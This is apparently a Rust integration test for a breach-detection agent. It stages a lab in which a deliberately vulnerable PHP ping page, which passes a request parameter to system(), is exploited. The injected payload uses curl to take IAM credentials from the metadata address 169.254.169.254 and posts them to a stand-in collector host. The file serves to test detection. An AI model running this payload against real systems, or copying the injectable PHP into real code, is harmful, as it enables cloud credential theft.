//! The whole agent against parts that nobody here wrote: nginx as the edge, PHP as the application server with a hole in it,
//! moto as the metadata service, curl as the intruder's tool. The agent is the real binary, run as an operator would.

mod lab;

use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use breachline_tests::{agent_binary, wait_for};
use lab::{Lab, Place};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::Value;

/// Longest wait for any one thing; moto takes a few seconds to start on a slow machine.
const LIMIT: Duration = Duration::from_secs(30);

/// The hole: a value from the request in a command line.
const PING_PHP: &str = "<?php system('ping -c 1 -W 1 ' . ($_GET['host'] ?? ''));";
const PAGE_PHP: &str = "<?php echo 'shop';";

const PAYLOAD: &str = "127.0.0.1; M=http://169.254.169.254/latest/meta-data/iam/security-credentials/; \
    curl -s $M$(curl -s $M) | curl -s --data-binary @- http://203.0.113.66/drop";

#[test]
fn a_breach_through_real_parts_is_one_incident_that_names_its_request() {
    let Some(moto) = prerequisites() else { return };
    let scratch = tempfile::tempdir().expect("scratch directory");
    let mut lab = Lab::open().expect("lab");
    start_parts(&mut lab, scratch.path(), &moto).expect("parts");
    let outside = lab.listen(([203, 0, 113, 66], 80).into()).expect("outside");
    let agent = Agent::start(scratch.path()).expect("agent");

    ordinary_life(&lab).expect("ordinary requests");
    let attack = std::thread::spawn(move || loot(&outside));
    request(&lab, "198.51.100.23", "/ping.php", &format!("host={PAYLOAD}")).expect("attack");
    ordinary_life(&lab).expect("ordinary requests");
    let stolen = attack.join().expect("no panic").expect("loot");
    assert!(stolen.contains("SecretAccessKey"), "the attack itself must work: {stolen}");

    let named = wait_for(LIMIT, || agent.incidents().into_iter().rfind(is_complete));
    let told = |incident: &Value| format!("{} {} {}", incident["severity"], incident["stages"], incident["title"]);
    let all = || agent.incidents().iter().map(told).collect::<Vec<_>>();
    let incident = named.unwrap_or_else(|| panic!("no complete incident among {:#?}", all()));
    let url = incident["candidates"]["ranked"][0]["request"]["url"].as_str().unwrap_or_default();
    assert!(url.contains("/ping.php?host=127.0.0.1%3b"), "{url}");
    let mut ids: Vec<_> = agent.incidents().iter().map(|incident| incident["id"].to_string()).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 1, "one attack, one incident");
    agent.stop().expect("a clean stop");
}

fn is_complete(incident: &Value) -> bool {
    incident["severity"] == "critical" && incident["candidates"]["ranked"][0].is_object()
}

/// The metadata emulator's program, if this test can run here; else it says why not.
fn prerequisites() -> Option<PathBuf> {
    let program =
        |name: &str| Command::new("sh").args(["-c", "command -v \"$0\"", name]).stdout(Stdio::null()).status();
    let lacks =
        ["ip", "nginx", "php-cgi", "curl"].into_iter().find(|name| !program(name).is_ok_and(|found| found.success()));
    let moto = std::env::var_os("BREACHLINE_MOTO").map(PathBuf::from).filter(|path| path.exists());
    match (nix::unistd::geteuid().is_root(), lacks, moto) {
        (true, None, Some(moto)) => return Some(moto),
        (false, ..) => eprintln!("skipped: needs root"),
        (_, Some(name), _) => eprintln!("skipped: needs {name} (cargo xtask setup installs it)"),
        (.., None) => eprintln!("skipped: needs moto; BREACHLINE_MOTO names its server (cargo xtask test does both)"),
    }
    None
}

fn start_parts(lab: &mut Lab, scratch: &Path, moto: &Path) -> Result<()> {
    let www = scratch.join("www");
    fs::create_dir(&www)?;
    fs::write(www.join("ping.php"), PING_PHP)?;
    fs::write(www.join("page.php"), PAGE_PHP)?;
    let conf = scratch.join("nginx.conf");
    fs::write(&conf, include_str!("nginx.conf").replace("SCRATCH", &scratch.to_string_lossy()))?;

    // Pre-forked children answer; their master made the socket.
    lab.start_service("env", &["PHP_FCGI_CHILDREN=2", "php-cgi", "-b", "10.20.0.10:9000"])?;
    lab.start(Place::World, &moto.to_string_lossy(), &["-H", "169.254.169.254", "-p", "80"])?;
    lab.start(Place::World, "nginx", &["-p", &scratch.to_string_lossy(), "-c", &conf.to_string_lossy()])?;

    let shop = wait_for(LIMIT, || request(lab, "198.51.100.7", "/page.php", "").ok().filter(|page| page == "shop"));
    shop.context("nginx and PHP did not answer")?;
    let role = || lab.output(Place::App, "curl", &["-sf", "http://169.254.169.254/latest/meta-data/"]).ok();
    wait_for(LIMIT, role).context("moto did not answer")?;
    Ok(())
}

/// One request through nginx; gives the body. `query` is encoded by curl.
fn request(lab: &Lab, from: &str, path: &str, query: &str) -> Result<String> {
    let url = format!("http://192.0.2.10{path}");
    let args = [
        "-sf",
        "--max-time",
        "20",
        "--interface",
        from,
        "-H",
        "Host: shop.example",
        "-G",
        "--data-urlencode",
        query,
        &url,
    ];
    lab.output(Place::World, "curl", &args)
}

fn ordinary_life(lab: &Lab) -> Result<()> {
    for id in 0..5 {
        request(lab, "198.51.100.7", "/page.php", &format!("id={id}"))?;
    }
    Ok(())
}

/// What the first connection to the intruder's collector brings, up to 64 KiB.
fn loot(outside: &TcpListener) -> std::io::Result<String> {
    outside.set_nonblocking(true)?;
    let accepted = wait_for(LIMIT, || outside.accept().ok()).ok_or(std::io::ErrorKind::TimedOut)?;
    let (stream, _) = accepted;
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(LIMIT))?;
    let (mut text, mut buffer) = (String::new(), [0; 4096]);
    while !text.contains("Expiration") && text.len() < 64 * 1024 {
        match (&stream).read(&mut buffer)? {
            0 => break,
            length => text.push_str(&String::from_utf8_lossy(&buffer[..length])),
        }
    }
    Ok(text)
}

/// The agent, as `breachline run` with a config of the test's own.
struct Agent {
    child: Child,
    config: PathBuf,
    incidents: PathBuf,
}

impl Agent {
    fn start(scratch: &Path) -> Result<Self> {
        let config = scratch.join("breachline.toml");
        fs::write(&config, include_str!("breachline.toml").replace("SCRATCH", &scratch.to_string_lossy()))?;
        let mut command = Command::new(agent_binary());
        command.arg("run").arg("--config").arg(&config).stdin(Stdio::null()).stdout(Stdio::null());
        let child = command.spawn().context("the agent does not start")?;
        let mut agent = Self { child, config, incidents: scratch.join("incidents.jsonl") };
        let up = wait_for(LIMIT, || (agent.has_ended() || agent.answers()).then_some(()));
        ensure!(up.is_some() && !agent.has_ended(), "the agent did not come up");
        Ok(agent)
    }

    fn has_ended(&mut self) -> bool {
        !matches!(self.child.try_wait(), Ok(None))
    }

    fn answers(&self) -> bool {
        let mut status = Command::new(agent_binary());
        status.arg("status").arg("--config").arg(&self.config).stdout(Stdio::null()).stderr(Stdio::null());
        status.status().is_ok_and(|status| status.success())
    }

    /// Every revision delivered so far, on the lab's service.
    fn incidents(&self) -> Vec<Value> {
        let text = fs::read_to_string(&self.incidents).unwrap_or_default();
        let all = text.lines().filter_map(|line| serde_json::from_str(line).ok());
        all.filter(|incident: &Value| incident["workload"]["key"] == "unit:shop-php.service").collect()
    }

    fn stop(mut self) -> Result<()> {
        kill(Pid::from_raw(i32::try_from(self.child.id())?), Signal::SIGTERM)?;
        let status = wait_for(LIMIT, || self.child.try_wait().ok().flatten()).context("the agent did not stop")?;
        ensure!(status.success(), "the agent ended with {status}");
        Ok(())
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
